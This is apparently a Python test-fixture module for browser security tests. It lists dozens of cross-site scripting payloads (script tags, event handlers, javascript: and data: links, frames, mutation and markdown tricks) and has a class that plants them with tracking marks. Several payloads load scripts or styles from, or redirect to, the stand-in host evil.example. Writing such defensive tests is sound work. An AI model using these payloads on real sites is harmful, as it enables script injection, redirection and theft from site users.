"""Texts that are known to run a script, to load something or to send a reader away, where a page lets them through.

Each calls `ran`, which tests/browser/test_payloads.py puts into every page, or asks `evil.example` for something.
"""

from itertools import cycle

EVIL = "evil.example"

SCRIPTS = (
    "<script>ran()</script>",
    "<ScRiPt >ran()</sCrIpT >",
    f"<script src=//{EVIL}/a.js></script>",
    "</title><script>ran()</script>",
    "</textarea><script>ran()</script>",
    "</style><script>ran()</script>",
    "</script><script>ran()</script>",
    "--><script>ran()</script><!--",
    "]]><script>ran()</script>",
    "<!--<script>ran()//--></script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>ran()</x:script><script>ran()</script>",
    "\u2028<script>ran()</script>\u2029",
    "\u202e<script>ran()</script>\u202c",
    '"};ran();//',
    '\u2028"};ran();//',
    "{% autoescape off %}{{ '<script>ran()</script>' }}{% endautoescape %}",
    "{{ '<script>ran()</script>'|safe }}",
)
HANDLERS = (
    "<svg onload=ran()>",
    "<img src=/x onerror=ran()>",
    "<img src=/x onerror=&#114;an()>",
    "<IMG\tSRC=/x\nONERROR=ran()>",
    "<body onload=ran()>",
    "<details open ontoggle=ran()>",
    "<input autofocus onfocus=ran()>",
    "<video><source onerror=ran()></video>",
    '"><img src=/x onerror=ran()>',
    "'><img src=/x onerror=ran()>",
    "`><img src=/x onerror=ran()>",
    '" autofocus onfocus=ran() x="',
    "' autofocus onfocus=ran() x='",
    " autofocus onfocus=ran() ",
    '" style="background:url(//evil.example/a)" x="',
)
LINKS = (
    "<a href=javascript:ran()>go</a>",
    "<a href='jAvAsCrIpT:ran()'>go</a>",
    "<a href='java\tscript:ran()'>go</a>",
    "<a href='java&#10;script:ran()'>go</a>",
    "<a href='&#1;javascript&colon;ran()'>go</a>",
    "<a href='data:text/html,<script>ran()</script>'>go</a>",
    "<form action=javascript:ran()><button>go</button></form>",
    "<button form=f formaction=//evil.example/>go</button>",
    "<svg><a xlink:href=javascript:ran()><text>go</text></a></svg>",
)
FRAMES = (
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<iframe src=javascript:parent.ran()></iframe>",
    "<object data='data:text/html,<script>ran()</script>'></object>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<style>@import '//evil.example/b.css';</style>",
    "<p style='background:url(//evil.example/a)'>x",
)
MUTATIONS = (
    "<math><mtext></form><form><mglyph><style></math><img src=/x onerror=ran()>",
    '<svg></p><style><a id="</style><img src=/x onerror=ran()>">',
    '<noscript><p title="</noscript><img src=/x onerror=ran()>">',
    "<table><td><svg><desc><img src=/x onerror=ran()>",
    "<listing>&lt;img src=/x onerror=ran()&gt;</listing><svg/onload=ran()>",
)
MARKDOWN = (
    "[go](javascript:ran())",
    "[go](JaVaScRiPt&colon;ran())",
    "[go](&#106;avascript:ran())",
    "[go](data:text/html,<script>ran()</script>)",
    '[go](/types/ "x\\"onmouseover=ran() ")[go](javascript:ran())',
    "![go](javascript:ran())<svg onload=ran()>",
    "<javascript:ran()>",
    "[go][r]\n\n[r]: javascript:ran() 'x'",
    '```html"onload=ran()\n<script>ran()</script>\n```',
    "[[<svg onload=ran()>]]",
    "[figure: day<svg onload=ran()>]",
    "[@FAVA<svg onload=ran()>]",
)
PAYLOADS = (*SCRIPTS, *HANDLERS, *LINKS, *FRAMES, *MUTATIONS, *MARKDOWN)


class Planter:
    """Hands out the payloads in turn, each behind a mark of its own by which a page that shows it is known."""

    def __init__(self) -> None:
        self.marks: dict[str, str] = {}  # where it was planted, by mark
        self._next = cycle(PAYLOADS)

    def text(self, where: str, most: int = 10_000, *, is_line: bool = True, is_token: bool = False) -> str:
        """A mark and the next payload that fits; a line has no line breaks, a token no space at its ends."""
        mark = f"m{len(self.marks):03}"
        self.marks[mark] = where

        def fits(payload: str) -> bool:
            tidy = payload.isprintable() and payload == payload.strip()
            return len(payload) <= most - len(mark) and not (is_line and "\n" in payload) and (tidy or not is_token)

        return mark + next(filter(fits, self._next))
